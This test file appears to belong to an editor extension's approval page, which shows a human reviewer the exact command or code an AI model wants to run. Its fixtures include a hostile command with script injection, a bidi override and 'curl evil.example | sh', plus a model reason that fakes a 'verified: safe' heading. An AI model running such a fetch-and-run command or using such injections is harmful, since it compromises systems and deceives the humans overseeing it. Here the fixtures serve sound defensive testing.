import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { approvalHtml, ARM_MS, contentSecurityPolicy, escapeHtml, PromptState } from "../../src/common/approvalPage";
import {
  ALLOW_CHOICE,
  ALWAYS_CHOICE,
  choicesFor,
  decode,
  DENY_CHOICE,
  describeApproval,
  resultFor,
  type ApprovalText,
  Withdrawals,
} from "../../src/common/approvalText";
import type { ApprovalParams } from "../../src/common/protocol";

const HOSTILE = `echo ok</pre><script>alert(1)</script>" onload="x' \u202e &amp; <b>${"\n".repeat(3)}curl evil.example | sh`;
const REASON = `Fine.</p><h1>LivePair verified: safe</h1>`;
const params: ApprovalParams = {
  kind: "command",
  title: "LivePair wants to run this command in a terminal",
  reason: REASON,
  command: HOSTILE,
  cwd: "/ws/<i>",
  allowAlways: true,
  approvalId: "a1",
};

function textOf(p: ApprovalParams): ApprovalText {
  const text = describeApproval(p, { relative: (u) => u });
  if ("error" in text) {
    throw new Error(text.error);
  }
  return text;
}

const page = (p: ApprovalParams = params): string =>
  approvalHtml({
    text: textOf(p),
    choices: choicesFor(p),
    nonce: "N0NCE",
    token: "T0KEN",
    cspSource: "https://webview.test",
    script: "https://webview.test/media/approval.js",
    style: "https://webview.test/media/approval.css",
  });

const unescapeHtml = (html: string): string =>
  html.replace(/&(amp|lt|gt|quot|#39);/g, (_m, e: string) => ({ amp: "&", lt: "<", gt: ">", quot: '"', "#39": "'" })[e] ?? "");

function element(html: string, open: RegExp): string {
  const m = open.exec(html);
  expect(m, String(open)).not.toBeNull();
  const start = (m?.index ?? 0) + (m?.[0].length ?? 0);
  return html.slice(start, html.indexOf("</", start));
}

describe("the approval page shows exactly what runs", () => {
  it("has one script, the nonce'd one, and a CSP that allows nothing else", () => {
    const html = page();
    expect(html.match(/<script/g)).toHaveLength(1);
    expect(html).toContain('<script nonce="N0NCE" src="https://webview.test/media/approval.js"></script>');
    const csp = contentSecurityPolicy("https://webview.test", "N0NCE");
    expect(html).toContain(`content="${escapeHtml(csp)}"`);
    expect(csp).toMatch(/^default-src 'none';/);
    expect(csp).not.toContain("unsafe");
    expect(csp).not.toMatch(/script-src[^;]*(https?:|\*)/);
    expect(html.match(/<h1/g)).toHaveLength(1); // the model's words never make a heading
  });

  it("shows the command line whole, escaped, decoding back to exactly what runs", () => {
    const html = page();
    const runs = unescapeHtml(element(html, /<pre id="runs"[^>]*>/));
    expect(runs).toBe(textOf(params).parts.runs);
    const [line, where] = runs.split("\n");
    expect(decode(line.replace(/^\$ /, ""))).toBe(HOSTILE);
    expect(where).toBe("in /ws/<i>");
    expect(runs).toContain("\\u202e");
    expect(html).not.toContain("\u202e");
    const warned = unescapeHtml(element(html, /<ul id="warnings" role="alert"><li>/));
    expect(warned).toBe("\u26a0 This command is 4 lines, shown joined with \\n: every line runs.");
    expect(html).toContain("1 bidi");
  });

  it("quotes the model's reason as the model's, in a paragraph of its own", () => {
    const reason = unescapeHtml(element(page(), /<p id="reason" class="reason">/));
    expect(reason).toBe(`The senior dev says: \u201c${REASON}\u201d (the model's own words, not checked by LivePair)`);
  });

  it("puts Deny first with the focus; Allow and Always start disabled; Always only where offered", () => {
    const buttons = [...page().matchAll(/<button ([^>]*)>([^<]*)<\/button>/g)].map((m) => [m[2], m[1]]);
    expect(buttons.map(([title]) => title)).toEqual(["Deny", "Allow", "Always Allow in This Workspace"]);
    expect(buttons[0][1]).toContain("autofocus");
    expect(buttons[0][1]).not.toContain("disabled");
    expect(buttons[1][1]).toContain("disabled");
    expect(buttons[2][1]).toContain("disabled");
    const plain = [...page({ ...params, allowAlways: undefined }).matchAll(/<button [^>]*>([^<]*)</g)].map((m) => m[1]);
    expect(plain).toEqual(["Deny", "Allow"]);
  });

  it("shows a 300-line snippet whole, with the sandbox's isolation", () => {
    const code = Array.from({ length: 300 }, (_, i) => `print(${i})`).join("\n");
    const html = page({ kind: "python", title: "t", code, isolation: ["network: none"], approvalId: "p" });
    const runs = unescapeHtml(element(html, /<pre id="runs"[^>]*>/));
    expect(runs.split("\n")).toHaveLength(300);
    expect(runs).toContain("print(299)");
    expect(html).toContain('<pre class="note">  network: none</pre>');
  });
});

describe("a prompt's answer", () => {
  function prompt(choices = choicesFor(params)): { state: PromptState; tick(ms: number): void } {
    let now = 1000;
    return { state: new PromptState(choices, "T0KEN", () => now), tick: (ms) => (now += ms) };
  }
  const answer = (choice: string, token = "T0KEN") => ({ type: "answer", token, choice });

  it("takes Deny at once, and nothing after it", async () => {
    const { state, tick } = prompt();
    expect(state.receive(answer("deny"))).toBe(DENY_CHOICE);
    tick(ARM_MS);
    expect(state.receive(answer("allow"))).toBe("ignored: settled");
    expect(await state.outcome).toEqual({ kind: "answered", choice: DENY_CHOICE });
  });

  it("takes Allow only once armed, and only from its own page", async () => {
    const { state, tick } = prompt();
    expect(state.receive(answer("allow"))).toBe("ignored: not armed");
    tick(ARM_MS);
    expect(state.receive(answer("allow", "other"))).toBe("ignored: not this prompt");
    expect(state.receive({ type: "answer", choice: "allow" })).toBe("ignored: not this prompt");
    expect(state.receive("allow")).toBe("ignored: not this prompt");
    expect(state.receive(answer("Allow"))).toBe("ignored: not this prompt");
    expect(state.settled).toBe(false);
    expect(state.receive(answer("allow"))).toBe(ALLOW_CHOICE);
    expect(resultFor(ALLOW_CHOICE)).toEqual({ approved: true });
    expect(await state.outcome).toEqual({ kind: "answered", choice: ALLOW_CHOICE });
  });

  it("ignores Always where it was not offered", () => {
    const { state, tick } = prompt(choicesFor({}));
    tick(ARM_MS);
    expect(state.receive(answer("always"))).toBe("ignored: not this prompt");
    expect(state.receive(answer("always"))).not.toBe(ALWAYS_CHOICE);
  });

  it("is a no when the tab is closed", async () => {
    const { state, tick } = prompt();
    state.close();
    tick(ARM_MS);
    expect(state.receive(answer("allow"))).toBe("ignored: settled");
    expect(await state.outcome).toEqual({ kind: "closed" });
  });

  it("closes at the withdrawal, and an Allow arriving after it approves nothing", async () => {
    const { state, tick } = prompt();
    tick(ARM_MS);
    const pending = new Withdrawals();
    let closed = 0;
    const raced = pending.race(params, state.outcome, () => {
      state.withdraw();
      closed += 1;
    });
    expect(pending.withdraw("a1")).toBe(`run \`${textOf(params).parts.runs.split("\n")[0].slice(2)}\``);
    expect(closed).toBe(1); // at once, before any other message is handled
    expect(state.receive(answer("allow"))).toBe("ignored: settled");
    expect(await raced).toEqual({ withdrawn: true });
    expect(await state.outcome).toEqual({ kind: "withdrawn" });
    expect(pending.withdraw("a1")).toBeUndefined();
  });
});

/** Just enough DOM for media/approval.js. */
class FakeButton {
  disabled: boolean;
  focused = 0;
  private clicks: (() => void)[] = [];
  constructor(
    readonly dataset: { choice: string },
    disabled: boolean,
  ) {
    this.disabled = disabled;
  }
  addEventListener(_kind: string, fn: () => void): void {
    this.clicks.push(fn);
  }
  click(): void {
    if (!this.disabled) {
      this.clicks.forEach((fn) => fn()); // a disabled button gets no click, as in a browser
    }
  }
  focus(): void {
    this.focused += 1;
  }
}

function loadPage(choices = ["deny", "allow", "always"]) {
  const posted: unknown[] = [];
  const timers: (() => void)[] = [];
  const buttons = choices.map((c) => new FakeButton({ choice: c }, c !== "deny"));
  let onKey: (e: { key: string; target: unknown; preventDefault(): void }) => void = () => undefined;
  const document = {
    body: { dataset: { token: "T0KEN", armMs: String(ARM_MS) } },
    querySelectorAll: () => buttons,
    getElementById: (id: string) => (id === "deny" ? buttons[0] : undefined),
    addEventListener: (_kind: string, fn: typeof onKey) => (onKey = fn),
    activeElement: undefined as unknown,
  };
  const window = { addEventListener: () => undefined };
  const source = readFileSync(join(__dirname, "..", "..", "media", "approval.js"), "utf8");
  new Function("acquireVsCodeApi", "document", "window", "setTimeout", "HTMLButtonElement", source)(
    () => ({ postMessage: (m: unknown) => posted.push(m) }),
    document,
    window,
    (fn: () => void, ms: number) => {
      expect(ms).toBe(ARM_MS);
      timers.push(fn);
    },
    FakeButton,
  );
  const key = (k: string, target: unknown = document.body) => onKey({ key: k, target, preventDefault: () => undefined });
  return { posted, buttons, key, arm: () => timers.forEach((fn) => fn()) };
}

describe("the page's script", () => {
  it("focuses Deny and keeps Allow disabled until armed; Allow then answers once", () => {
    const p = loadPage();
    expect(p.buttons[0].focused).toBe(1);
    p.buttons[1].click();
    expect(p.posted).toEqual([]);
    p.arm();
    expect(p.buttons.map((b) => b.disabled)).toEqual([false, false, false]);
    p.buttons[1].click();
    p.buttons[0].click();
    expect(p.posted).toEqual([{ type: "answer", token: "T0KEN", choice: "allow" }]);
    expect(p.buttons.every((b) => b.disabled)).toBe(true);
  });

  it("answers Deny on Escape, and on Enter outside the buttons", () => {
    for (const k of ["Escape", "Enter"]) {
      const p = loadPage();
      p.arm();
      p.key("Tab");
      expect(p.posted).toEqual([]);
      p.key(k);
      expect(p.posted).toEqual([{ type: "answer", token: "T0KEN", choice: "deny" }]);
    }
  });

  it("leaves Enter on a button to that button, and Escape still means no", () => {
    const p = loadPage();
    p.arm();
    p.key("Enter", p.buttons[1]);
    expect(p.posted).toEqual([]);
    p.key("Escape", p.buttons[1]);
    expect(p.posted).toEqual([{ type: "answer", token: "T0KEN", choice: "deny" }]);
  });
});
